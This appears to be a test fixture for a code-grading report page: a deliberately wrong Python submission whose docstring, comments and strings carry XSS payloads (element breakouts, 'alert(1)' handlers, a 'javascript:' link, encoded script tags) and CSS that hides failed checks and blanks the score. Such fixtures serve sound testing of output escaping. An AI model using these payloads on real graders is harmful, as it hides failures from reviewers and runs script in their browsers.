# attack: closes the page's code, style and title elements from its source, so that its own rules hide what was lost
# question: min-max-scaling
# loses: arrays-1d, arrays-negative, arrays-2d, input-kept, scaled-data
# %%
def min_max_scaling(data):
    """</code></pre></style></title></textarea></template>--><style>.check-bad{display:none}.score-percent{color:transparent}</style>
    <details open ontoggle=alert(1)><a href="&#106;avascript:alert(1)">]]><!--[if mso]><script>alert(1)</script><![endif]-->
    """
    return data / 2  # </span><span class="hljs-comment" style="background:url(http://127.0.0.1:9/)" onmouseover="alert(1)">
scaled_data = data / 2
"""<SCRIPT>alert(1)</SCRIPT><ｓｃｒｉｐｔ>\u003cscript\u003e &lt;script&gt; %3Cscript%3E"""
